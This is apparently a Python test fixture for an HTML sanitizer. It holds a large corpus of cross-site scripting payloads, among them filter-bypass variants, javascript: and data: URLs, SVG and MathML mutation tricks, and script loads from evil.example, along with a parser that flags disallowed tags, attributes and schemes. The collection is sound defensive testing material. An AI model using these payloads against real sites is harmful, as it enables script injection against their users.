"""Hostile HTML of every known class, and a parser that finds what could do harm.

Each text tries to run `x()`, to load something that runs, to leave the page or to lay itself over
it. None of them may do so once it is cleaned.
"""

import re
from collections.abc import Iterable
from html.parser import HTMLParser

from course_discovery.core import html as cleaning

# Scripts as elements, in ways of writing that naive filters miss.
_SCRIPTS = [
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>x()</script\n>",
    "<script/src=//evil.example/x.js></script>",
    "<script\x00>x()</script>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<<script>x();//<</script>",
    "<script>x()",
    "<script><!--\nx()//--></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<p><script>/*</p>*/x()</script>",
    "</title><script>x()</script>",
    "</textarea><script>x()</script>",
    "<script x>x()</script x>",
    "<script\x0c>x()</script>",
    "<script\u00a0>x()</script>",
    "\uff1cscript\uff1ex()\uff1c/script\uff1e<b>",
    "<ſcript>x()</ſcript>",
]
# Handlers of events.
_HANDLERS = [
    "<img src=x onerror=x()>",
    "<img src=x OnErRoR='x()'>",
    "<img/src=x/onerror=x()>",
    "<img src=x\tonerror=x()>",
    "<img src=x\x0conerror=x()>",
    "<img src=x onerror\n=\nx()>",
    '<img src="x" title="a"onerror="x()">',
    "<img src='x' alt='`'onerror=x()>",
    "<img src=`x`onerror=x()>",
    "<img src=x onerror=&#120;&#40;&#41;>",
    "<img src=x:x onload=x() onerror=x()>",
    "<img alt='><img src=x onerror=x()>'>",
    '<img alt="&quot;onerror=x()&quot;" src=x>',
    "<img src=x one\x00rror=x()>",
    "<b onmouseover=x()>b</b>",
    "<b onfocus=x() tabindex=0 autofocus>b</b>",
    "<div onpointerenter=x()>b</div>",
    "<p onanimationstart=x() style='animation:a'>b</p>",
    "<p ontransitionend=x()>b</p>",
    "<a href=# onclick=x()>b</a>",
    "<a onbeforecopy=x()>b</a>",
    "<table onscrollsnapchange=x()><tr><td>b</td></tr></table>",
    "<body onload=x()>",
    "<body onpageshow=x()>b",
    "<input onfocus=x() autofocus>",
    "<details open ontoggle=x()>b</details>",
    "<marquee onstart=x()>b</marquee>",
    "<video><source onerror=x()></video>",
    "<audio src=x onerror=x()></audio>",
    "<select onfocus=x() autofocus><option>b</select>",
    "<keygen onfocus=x() autofocus>",
    "<div popover id=p onbeforetoggle=x()>b</div>",
    "<button popovertarget=p>b</button>",
    "<custom-element oncontentvisibilityautostatechange=x()>b</custom-element>",
]
# Addresses that run.
_ADDRESSES = [
    "<a href=javascript:x()>b</a>",
    "<a href='JaVaScRiPt:x()'>b</a>",
    "<a href=' javascript:x()'>b</a>",
    "<a href='\x01javascript:x()'>b</a>",
    "<a href='java\tscript:x()'>b</a>",
    "<a href='java\nscript:x()'>b</a>",
    "<a href='java\rscript:x()'>b</a>",
    "<a href='java&Tab;script:x()'>b</a>",
    "<a href='java&NewLine;script:x()'>b</a>",
    "<a href='javascript&colon;x()'>b</a>",
    "<a href='&#106;&#97;vascript:x()'>b</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:x()'>b</a>",
    "<a href='&#0000106avascript:x()'>b</a>",
    "<a href='&amp;#106;avascript:x()'>b</a>",
    "<a href='javascript://https://good.example/%0ax()'>b</a>",
    "<a href='jav\u200bascript:x()'>b</a>",
    "<a href='\u0000javascript:x()'>b</a>",
    "<a href='vbscript:x()'>b</a>",
    "<a href='livescript:x()'>b</a>",
    "<a href='data:text/html,<script>x()</script>'>b</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4='>b</a>",
    "<a href='view-source:javascript:x()'>b</a>",
    "<a href='blob:https://good.example/1'>b</a>",
    "<a href='file:///etc/passwd'>b</a>",
    "<a href='intent://x#Intent;scheme=https;end'>b</a>",
    "<a xlink:href='javascript:x()'>b</a>",
    "<a href='https://good.example' ping='https://evil.example'>b</a>",
    "<img src='javascript:x()'>",
    "<img src='data:image/svg+xml,<svg onload=x()>'>",
    "<img srcset='x 1x, javascript:x() 2x' src=x>",
    "<img dynsrc=javascript:x() lowsrc=javascript:x()>",
    "<img longdesc='javascript:x()' src=x>",
    "<img usemap=#m src=x><map name=m><area href=javascript:x()></map>",
    "<table background=javascript:x()><tr><td background=javascript:x()>b</td></tr></table>",
    "<a href='https:javascript:x()' formaction=javascript:x()>b</a>",
]
# Documents, forms and everything that leads elsewhere.
_DOCUMENTS = [
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src&equals;x onerror&equals;x()&gt;'></iframe>",
    "<frameset><frame src=javascript:x()></frameset>",
    "<object data=javascript:x()></object>",
    "<object data='data:text/html,<script>x()</script>'></object>",
    "<embed src=javascript:x()>",
    "<applet code=X></applet>",
    "<portal src=https://evil.example></portal>",
    "<fencedframe src=https://evil.example></fencedframe>",
    "<base href=https://evil.example/>",
    "<base href=javascript:/a/-x()//>",
    "<meta http-equiv=refresh content='0;url=javascript:x()'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta charset=utf-7>+ADw-script+AD4-x()+ADw-/script+AD4-",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<link rel=prefetch href=//evil.example/>",
    "<form action=javascript:x()><button>b</button></form>",
    "<form id=f></form><button form=f formaction=javascript:x()>b</button>",
    "<isindex type=image src=x onerror=x()>",
    "<dialog open>b</dialog>",
    "<noembed><img title='</noembed><img src=x onerror=x()>'></noembed>",
]
# Styles.
_STYLES = [
    "<style>*{background:url(javascript:x())}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=x()>'></style>",
    "<p style='background:url(javascript:x())'>b</p>",
    "<p style='width:expression(x())'>b</p>",
    "<p style='position:fixed;inset:0'>b</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>b</p>",
    "<p style='behavior:url(x.htc)'>b</p>",
    '<p style="x:\\65xpression(x())">b</p>',
    "<div class=modal id=root>b</div>",
]
# Markup that a parser and the next one read differently.
_MUTATIONS = [
    "<svg onload=x()>",
    "<svg/onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:x()><text>b</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:x() /></svg>",
    "<svg><set attributeName=onload to=x() /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=x()/>#a'></use></svg>",
    "<svg><foreignObject><img src=x onerror=x()></foreignObject></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg><desc><img src=x onerror=x()></desc></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=x()>'>",
    "<math><mi xlink:href=javascript:x()>b</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x()&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=x()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=x()>",
    "<template><img src=x onerror=x()></template>",
    "<template shadowrootmode=open><script>x()</script></template>",
    "<textarea><p title='</textarea><img src=x onerror=x()>'></textarea>",
    "<title><p title='</title><img src=x onerror=x()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=x()>'></xmp>",
    "<plaintext><img src=x onerror=x()>",
    "<listing>&lt;img src=x onerror=x()&gt;</listing>",
    "<select><template><img src=x onerror=x()></template></select>",
    "<table><td><svg></table><img src=x onerror=x()>",
    "<table><a href=javascript:x()><tr><td>b",
    "<a><table><a href=javascript:x()>b</table></a>",
    "<p><a><p></a><img src=x onerror=x()>",
    "<ol start='1' onclick=x()><li value=javascript:x()>b</ol>",
]
# Comments, declarations and what is broken.
_BROKEN = [
    "<!--><img src=x onerror=x()>-->",
    "<!---><img src=x onerror=x()>-->",
    "<!--a--!><img src=x onerror=x()>-->",
    "<!-- --!><script>x()</script>",
    "<!--[if IE]><script>x()</script><![endif]-->",
    "<![CDATA[<script>x()</script>]]>",
    "<svg><![CDATA[><img src=x onerror=x()>]]></svg>",
    "<!DOCTYPE x [<!ENTITY y '<script>x()</script>'>]>&y;",
    "<?xml version='1.0'?><script>x()</script>",
    "<?php x() ?><img src=x onerror=x()>",
    "<% <img src=x onerror=x()> %>",
    "<img src=x onerror=x()",
    "<img src='x onerror=x()//",
    "<a href='https://good.example",
    "</script><img src=x onerror=x()><script>",
    "<b <script>x()</script>>",
    "<\x00img src=x onerror=x()>",
    "< img src=x onerror=x()>",
    "<b>" * 600 + "<img src=x onerror=x()>",
    "<p title=\"\x00\"><img src=x onerror=x()>",
    "&lt;script&gt;x()&lt;/script&gt;<b>",
    "&amp;lt;img src=x onerror=x()&amp;gt;<b>",
    "\ufeff<script>x()</script>",
    "<b>\u202e<img src=x onerror=x()>\u202c</b>",
    "\u2028<a href='\u2028javascript:x()'>b</a>",
    "<a href=\"https://good.example/?a='><img src=x onerror=x()>\">b</a>",
    "{{constructor.constructor('x()')()}}<b>",
]  # fmt: skip
HOSTILE = [*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_DOCUMENTS, *_STYLES, *_MUTATIONS, *_BROKEN]
# As browsers find the scheme of an address (WHATWG URL, 4.4).
_IGNORED = re.compile(r"^[\x00-\x20]+|[\t\n\r]")
_SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*:")
_LINKING = {"href", "src"}


class _Harm(HTMLParser):
    """Collects what is not among the allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in cleaning._TAGS:
            self.found.append(f"<{tag}>")
        attributes = cleaning._ATTRIBUTES
        for name, value in attrs:
            if name not in attributes["*"] | attributes.get(tag, set()):
                self.found.append(f"<{tag} {name}>")
            elif name in _LINKING and scheme_of(value or "") not in {"", *cleaning._SCHEMES}:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.handle_decl(data)

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def scheme_of(address: str) -> str:
    """The scheme that a browser finds in an address, "" for none."""
    found = _SCHEME.match(_IGNORED.sub("", address))
    return found[0][:-1].lower() if found else ""


def harm(text: str) -> list[str]:
    """The elements, attributes, addresses and declarations of a text that are not allowed."""
    parser = _Harm()
    parser.feed(text)
    parser.close()
    return parser.found


def all_at_once() -> str:
    """The whole corpus as one text."""
    return "\n".join(_each(HOSTILE))


def _each(texts: Iterable[str]) -> Iterable[str]:
    # What databases and JSON refuse is for the field alone.
    return (f"<div>{text}</div>" for text in texts if "\x00" not in text)
